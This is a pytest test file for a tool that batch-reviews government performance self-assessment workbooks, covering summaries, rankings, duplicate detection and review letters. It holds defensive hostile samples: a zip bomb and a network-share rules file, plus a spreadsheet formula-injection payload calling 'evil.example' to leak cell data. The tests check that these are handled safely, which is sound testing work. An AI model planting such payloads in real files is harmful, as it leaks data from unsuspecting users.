"""perfeval review: a folder of good, wrong and broken submissions, summarized, ranked and answered with letters."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from helpers import example, run
from hostile_corpus import CORPUS
from office import convert, pdf_text, profile

from perfeval_xl.cli import main
from perfeval_xl.review import batch, summary
from perfeval_xl.review.batch import HAS_ERRORS, PASSED, UNREADABLE, ProgressBar, review_all
from perfeval_xl.review.inbox import find_submissions
from perfeval_xl.review.summary import statistics
from perfeval_xl.workbook.fill import set_named


@pytest.fixture(scope="module")
def pile(tmp_path_factory) -> Path:
    """What a bureau receives: good and wrong workbooks in sub-folders, broken files, a resubmission, Office's lock
    file and a hidden folder that must be skipped."""
    folder = tmp_path_factory.mktemp("pile") / "收件"
    (folder / "一科").mkdir(parents=True)
    (folder / ".已归档").mkdir()
    example(folder, "君山人社.xlsm")
    example(folder / "一科", "君山人社（按公开文本）.xlsm", published=True)
    example(folder / "一科", "君山人社-无宏版.xlsx", flavour="native")
    for broken in ("truncated-half.xlsm", "zip-bomb.xlsx", "rules-unc.xlsm"):
        shutil.copy(CORPUS / broken, folder / "一科" / broken)
    shutil.copy(folder / "君山人社.xlsm", folder / "~$君山人社.xlsm")
    shutil.copy(folder / "君山人社.xlsm", folder / ".已归档" / "旧.xlsm")
    (folder / "说明.txt").write_text("不是工作簿", encoding="utf-8")
    return folder


def test_find_submissions__recursive_sorted_without_lock_hidden_or_output(pile):
    found = [p.relative_to(pile).as_posix() for p in find_submissions([pile], skip=[pile / "君山人社.xlsm"]).files]
    assert found == [
        "一科/rules-unc.xlsm",
        "一科/truncated-half.xlsm",
        "一科/zip-bomb.xlsx",
        "一科/君山人社-无宏版.xlsx",
        "一科/君山人社（按公开文本）.xlsm",
    ]
    assert find_submissions([pile / "君山人社.xlsm", pile]).files == find_submissions([pile]).files  # each file once


def test_review_all__same_rows_with_one_process_and_with_two(pile):
    files = find_submissions([pile]).files
    one, two = review_all(files, jobs=1), review_all(files, jobs=2)
    assert one == two
    assert [r.status for r in one] == [HAS_ERRORS, UNREADABLE, UNREADABLE, PASSED, HAS_ERRORS, PASSED]


def test_review__counts_match_check_file_by_file(pile, tmp_path, capsys):
    summary = tmp_path / "复核汇总.xlsx"
    assert main(["review", str(pile), "-o", str(summary), "--jobs", "2"]) == 1
    out = capsys.readouterr().out
    assert "共 6 份：通过 2，有错误 2，无法读取 2" in out
    rows = list(openpyxl.load_workbook(summary)["汇总"].iter_rows(values_only=True))
    header, rows = rows[0], rows[1:]
    column = {name: index for index, name in enumerate(header)}
    assert len(rows) == 6
    for row in rows:
        path = pile / _link_target(summary, row[0])
        assert main(["check", "--json", str(path)]) in (0, 1, 2)
        checked, err = capsys.readouterr()
        if row[column["状态"]] == UNREADABLE:
            assert err.strip() == "perfeval：" + row[column["原因"]], path
            continue
        findings = json.loads(checked)["findings"]
        duplicate = 1 if row[column["单位"]] == "岳阳市君山区人力资源和社会保障局" else 0  # three of them
        assert row[column["错误"]] == sum(f["severity"] == "错误" for f in findings), path
        assert row[column["提示"]] == sum(f["severity"] == "提示" for f in findings) + duplicate, path
        assert row[column["状态"]] == (HAS_ERRORS if row[column["错误"]] else PASSED)


def _link_target(summary: Path, name: str) -> str:
    """The file a 汇总 row links to, relative to the pile (the link is relative to the summary's folder)."""
    archive = zipfile.ZipFile(summary)
    rels = archive.read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    targets = [t.replace("\\", "/") for t in __import__("re").findall(r'Target="([^"]+)"', rels)]
    (target,) = [t for t in targets if t.endswith("/" + name) or t == name]
    return target.split("收件/", 1)[1]


def test_review__summary_opens_in_libreoffice_with_every_sheet(pile, tmp_path):
    summary = tmp_path / "复核汇总.xlsx"
    assert run("review", str(pile), "-o", str(summary)).returncode == 1
    wb = openpyxl.load_workbook(summary)
    assert wb.sheetnames == ["汇总", "问题清单", "统计", "无法读取"]
    sheet = wb["汇总"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref is not None
    assert sheet["G2"].number_format == "0.00%" and sheet["E2"].number_format == "#,##0.00"
    (pdf,) = convert([summary], "pdf", tmp_path / "pdf", profile(tmp_path / "profile", recalculate=False))
    text = pdf_text(pdf)
    for words in ("全年预算数", "单元格", "各等级份数", "按总分排名", "同一单位同一年度重复提交", "zip-bomb.xlsx"):
        assert words in text, words
    (xlsx,) = convert([summary], "xlsx", tmp_path / "xlsx", profile(tmp_path / "profile2", recalculate=False))
    assert openpyxl.load_workbook(xlsx).sheetnames == wb.sheetnames  # LibreOffice read it whole, no repair


def test_statistics__grades_bands_codes_ranking_and_duplicates(pile):
    results = review_all(find_submissions([pile]).files)
    stats = statistics(results)
    grades = stats[summary.GRADES]
    assert list(zip(grades["类型"], grades["等级"], grades["份数"], strict=True)) == [("部门整体", "优", 4)]
    bands = dict(zip(stats[summary.BANDS]["执行率"], stats[summary.BANDS]["份数"], strict=True))
    assert bands["90%–100%"] == 4 and sum(bands.values()) == 4
    ranked = stats[summary.RANKED]
    assert list(ranked["名次"]) == [1, 2, 2, 2] and ranked["重算总分"].iloc[0] == 109
    twice = stats["同一单位同一年度重复提交"]  # a row per file of the group, not one cell listing them all
    assert list(twice["组"]) == [1] * 4 and list(twice["份数"]) == [4] * 4 and twice["文件"].nunique() == 4
    hints = [f.message for r in results for f in r.findings if f.code == "duplicate-submission"]
    assert len(hints) == 4 and all("共提交了 4 份（重复提交第 1 组" in h and ".xls" not in h for h in hints)
    codes = stats[summary.CODES]
    assert codes.iloc[0]["代码"] == "duplicate-submission" and codes.iloc[0]["份数"] == 4


def test_review__letters_for_the_units_with_errors(pile, tmp_path, capsys):
    letters = tmp_path / "审核意见"
    argv = ["review", str(pile), "-o", str(tmp_path / "s.xlsx"), "--letters", str(letters), "--date", "2024-06-26"]
    assert main([*argv, "--bureau", "某市财政局绩效管理科"]) == 1
    # the published example and the one whose 评分规则 names a network share (same unit and year: two letters),
    # and the two files that could not be read, by their file names
    assert sorted(p.name for p in letters.iterdir()) == [
        "2023年度岳阳市君山区人力资源和社会保障局绩效自评审核意见(2).docx",
        "2023年度岳阳市君山区人力资源和社会保障局绩效自评审核意见.docx",
        "truncated-half绩效自评审核意见.docx",
        "zip-bomb绩效自评审核意见.docx",
    ]
    bomb = docx.Document(letters / "zip-bomb绩效自评审核意见.docx")
    assert any("压缩比异常" in cell.text for table in bomb.tables for row in table.rows for cell in row.cells)
    (letter,) = [p for p in letters.iterdir() if "13 处" in "".join(x.text for x in docx.Document(p).paragraphs)]
    document = docx.Document(letter)
    body = "\n".join(p.text for p in document.paragraphs)
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    assert "经审核，有以下 13 处须改正" in body and "某市财政局绩效管理科（盖章）" in body and "2024年6月26日" in body
    assert "附件2 整体支出自评表 H43" in cells and "按各项得分之和改正总分" in cells
    assert any("总分印为 99" in cell for cell in cells)


def test_review__nothing_is_written_when_the_letters_cannot_be(pile, tmp_path, capsys):
    blocked = tmp_path / "blocked"
    blocked.write_text("a file where the letters' folder should be", encoding="utf-8")
    summary = tmp_path / "s.xlsx"
    assert main(["review", str(pile), "-o", str(summary), "--letters", str(blocked)]) == 2
    assert "perfeval：" in capsys.readouterr().err and not summary.exists()


def _interrupted(path, rules=None, framework=None):
    """review_file, but Ctrl-C arrives while the third file (in sorted order) is read."""
    if "rules-unc" in str(path):
        raise KeyboardInterrupt
    return batch.FileResult(str(path), PASSED)


def test_review__ctrl_c_stops_and_writes_nothing(pile, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr(batch, "review_file", _interrupted)  # the worker is forked: it sees it too
    summary = tmp_path / "s.xlsx"
    assert main(["review", str(pile), "-o", str(summary), "--jobs", "1"]) == 130  # not 1: no file had errors
    assert "已取消" in capsys.readouterr().err and list(tmp_path.iterdir()) == []


def test_review__json_for_other_systems(pile, capsys):
    assert main(["review", str(pile), "--json", "--jobs", "1"]) == 1
    payload = json.loads(capsys.readouterr().out, parse_constant=lambda c: pytest.fail(c))
    assert [f["status"] for f in payload["files"]] == [HAS_ERRORS, UNREADABLE, UNREADABLE, PASSED, HAS_ERRORS, PASSED]
    assert payload["statistics"]["grades"] == {"部门整体": {"优": 4}}
    assert payload["statistics"]["codes"]["printed-total"] == 1
    assert not (Path.cwd() / "复核汇总.xlsx").exists()  # --json alone writes no workbook


def test_review__a_reviewers_rule_set_and_a_wrong_one(pile, tmp_path, capsys):
    assert main(["review", str(pile / "君山人社.xlsm"), "--json", "--rules", "grade-85"]) == 0
    assert json.loads(capsys.readouterr().out)["files"][0]["grade"] == "优秀"
    assert main(["review", str(pile), "--rules", "no-such-rules"]) == 2
    assert "没有名为“no-such-rules”的评分规则" in capsys.readouterr().err


def test_review__no_workbooks_found(tmp_path, capsys):
    assert main(["review", str(tmp_path)]) == 2
    assert "没有找到要复核的" in capsys.readouterr().err


def test_progress_bar__plain_lines_in_a_log_and_one_line_on_a_terminal():
    log = io.StringIO()
    bar = ProgressBar(log)
    for done in range(0, 101):
        bar(done, 100)
    lines = log.getvalue().splitlines()
    assert 10 <= len(lines) <= 11 and lines[-1].startswith("复核 100/100 个文件") and "用时" in lines[-1]

    class Terminal(io.StringIO):
        def isatty(self):
            return True

    screen = Terminal()
    bar = ProgressBar(screen)
    for done in range(0, 4):
        bar(done, 3)
    assert screen.getvalue().count("\r") == 4 and screen.getvalue().endswith("\n") and "█" * 30 in screen.getvalue()


def test_review__text_that_looks_like_a_formula_stays_text(tmp_path, capsys):
    import openpyxl as xl

    folder = tmp_path / "in"
    folder.mkdir()
    wb = xl.load_workbook(example(folder, "a.xlsm"))
    (title, ref), *_ = wb.defined_names["unit_name"].destinations
    cell = wb[title][ref.replace("$", "")]
    cell.value = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    cell.data_type = "s"  # text that starts with "=", as Excel keeps it after a leading apostrophe
    wb.save(folder / "a.xlsm")
    summary = tmp_path / "s.xlsx"
    assert main(["review", str(folder), "-o", str(summary)]) in (0, 1)
    sheets = [n for n in zipfile.ZipFile(summary).namelist() if n.startswith("xl/worksheets/sheet")]
    assert all(b"<f>" not in zipfile.ZipFile(summary).read(n) for n in sheets)
    assert openpyxl.load_workbook(summary)["汇总"]["B2"].value.startswith("=HYPERLINK")


def test_review__never_writes_the_summary_over_a_submission(pile, tmp_path, capsys):
    submitted = pile / "君山人社.xlsm"
    before = submitted.read_bytes()
    assert main(["review", str(pile), "-o", str(pile / "君山人社.xlsm".replace(".xlsm", ".xlsx"))]) in (0, 1)
    (pile / "君山人社.xlsx").unlink()  # an earlier summary of that name may be written over…
    other = tmp_path / "自评.xlsx"
    shutil.copy(submitted, other)
    assert main(["review", str(pile), "-o", str(other)]) == 2  # …a workbook that is not a summary may not
    assert "不是本程序写出" in capsys.readouterr().err
    assert submitted.read_bytes() == before and other.read_bytes() == before


def test_review__odd_file_names_a_pipe_and_a_gbk_name(tmp_path, capsys):
    import os
    import signal

    folder = tmp_path / "in"
    folder.mkdir()
    example(folder, "b #1 %20.xlsm")
    os.mkfifo(folder / "p.xlsx")
    gbk = os.fsdecode(str(folder).encode() + b"/" + "单位".encode("gb18030") + b".xlsm")
    shutil.copy(folder / "b #1 %20.xlsm", gbk)
    summary = tmp_path / "s.xlsx"
    signal.alarm(120)  # a pipe opened for reading would wait forever
    try:
        assert main(["review", str(folder), "-o", str(summary), "--jobs", "1"]) == 1
    finally:
        signal.alarm(0)
    rows = {row[0]: row for row in openpyxl.load_workbook(summary)["汇总"].iter_rows(min_row=2, values_only=True)}
    assert set(rows) == {"in/b #1 %20.xlsm", "in/p.xlsx", "in/单位.xlsm"}
    assert rows["in/p.xlsx"][13] == UNREADABLE and "不是普通文件" in rows["in/p.xlsx"][14]
    rels = zipfile.ZipFile(summary).read("xl/worksheets/_rels/sheet1.xml.rels").decode()
    assert 'Target="in\\b %231 %2520.xlsm"' in rels  # "#" and "%" escaped, so the link opens that very file


def test_review__a_units_project_workbook_is_no_duplicate_of_its_dept_workbook(tmp_path, capsys):
    import openpyxl as xl

    from perfeval_xl.workbook.fill import set_named
    from perfeval_xl.workbook.new import new_workbook

    folder = tmp_path / "in"
    folder.mkdir()
    example(folder, "部门.xlsm")
    (folder / "项目.xlsm").write_bytes(new_workbook("project", None, ["甲项目"], "udf", ".xlsm"))
    wb = xl.load_workbook(folder / "项目.xlsm")
    set_named(wb, "unit_name", "岳阳市君山区人力资源和社会保障局")
    set_named(wb, "fiscal_year", 2023)
    wb.save(folder / "项目.xlsm")
    results = review_all(find_submissions([folder]).files)
    assert all(f.code != "duplicate-submission" for r in results for f in r.findings)


def test_review__wrong_paths_and_dates_before_the_batch(tmp_path, capsys):
    example(tmp_path, "a.xlsm")
    assert main(["review", str(tmp_path / "nope"), str(tmp_path)]) == 2
    assert "找不到“" in capsys.readouterr().err
    assert main(["review", str(tmp_path), "-o", str(tmp_path / "no" / "s.xlsx")]) == 2
    assert "找不到文件夹" in capsys.readouterr().err
    assert main(["review", str(tmp_path), "--letters", str(tmp_path / "l"), "--date", "2024-13-45"]) == 2
    assert "年-月-日" in capsys.readouterr().err and not (tmp_path / "l").exists()


def test_find_submissions__an_earlier_summary_is_not_a_submission(pile, tmp_path):
    summary = pile / "上次的复核汇总.xlsx"
    assert run("review", str(pile), "-o", str(summary)).returncode == 1
    try:
        assert summary not in find_submissions([pile]).files and len(find_submissions([pile]).files) == 6
    finally:
        summary.unlink()


def test_review__evaluation_workbooks_get_their_own_rows(tmp_path, capsys):
    """A 部门整体支出绩效评价 workbook in the pile: its 总分 and 等级 as printed and as recomputed, its findings."""
    from test_evalsheet import SHEET, _full_marks_changes, _new, _set

    folder = tmp_path / "收件"
    folder.mkdir()
    example(folder, "君山人社.xlsm")
    changes = _full_marks_changes()
    changes["投入/目标设定/绩效目标合理性"] = {"I": 1.5}  # half a point off, no reason written
    evaluation = _set(_new(tmp_path), folder / "评价.xlsm", changes)
    wb = openpyxl.load_workbook(evaluation)
    total = wb.defined_names["eval_total"].attr_text.split("!")[1].replace("$", "")
    wb[SHEET][total] = 100  # printed as if nothing had been deducted
    set_named(wb, "eval_evaluator", "某某会计师事务所")
    set_named(wb, "rev_expense_total_budget", 1200)
    set_named(wb, "rev_expense_total_final", 1080)
    evaluation.write_bytes(batch_package(wb))
    letters = tmp_path / "审核意见"
    assert main(["review", str(folder), "--json", "--letters", str(letters), "--date", "2024-06-26"]) == 1
    rows = {Path(row["file"]).name: row for row in json.loads(capsys.readouterr().out)["files"]}
    row = rows["评价.xlsm"]
    assert row["kind"] == batch.EVALUATION_KIND and row["status"] == HAS_ERRORS
    assert (row["printed_total"], row["total"], row["grade"]) == (100, 99.5, "优")
    assert {"sum-mismatch", "reason-missing"} <= {f["code"] for f in row["findings"]}
    assert rows["君山人社.xlsm"]["kind"] == "部门整体"
    assert (row["framework"], row["evaluator"]) == ("gongxing-2013", "某某会计师事务所")
    assert (row["budget"], row["executed"], row["exec_rate"]) == (1200, 1080, 0.9)
    (letter,) = letters.iterdir()  # the unit's self-assessment has no error: one letter, to the evaluator
    assert letter.name == "2024年度测试单位绩效评价评分表审核意见.docx"
    document = docx.Document(letter)
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    assert "核对合计与各项，使合计等于各项之和" in cells
    paragraphs = [p.text for p in document.paragraphs]
    assert "关于测试单位2024年度部门整体支出绩效评价评分表的审核意见" in paragraphs
    assert "某某会计师事务所：" in paragraphs
    assert any("你单位报送的2024年度测试单位部门整体支出绩效评价评分表" in p for p in paragraphs)
    assert not any("自评" in p for p in paragraphs)


def batch_package(wb: openpyxl.Workbook) -> bytes:
    from perfeval_xl.workbook.package import package

    return package(wb, ".xlsm")


def test_statistics__self_assessed_totals_and_evaluations_are_ranked_apart():
    from decimal import Decimal

    def row(path, kind, year, total, framework=""):
        return batch.FileResult(
            path, PASSED, unit=path, year=year, kind=kind, total=Decimal(total), grade="优", framework=framework
        )

    results = [
        row("甲", "部门整体", 2023, 95),
        row("乙", "部门整体", 2023, 91),
        row("丙", batch.EVALUATION_KIND, 2023, 99, "gongxing-2013"),
        row("丁", batch.EVALUATION_KIND, 2023, 80, "budget-30-40-30"),
        row("戊", "部门整体", 2024, 90),
    ]
    ranked = statistics(results)[summary.RANKED]
    firsts = sorted(ranked[ranked["名次"] == 1]["单位"])
    assert firsts == ["丁", "丙", "戊", "甲"]  # four lists: two years of self-assessments, two frameworks
    grades = statistics(results)[summary.GRADES]
    assert set(zip(grades["类型"], grades["份数"], strict=True)) == {("部门整体", 3), (batch.EVALUATION_KIND, 2)}
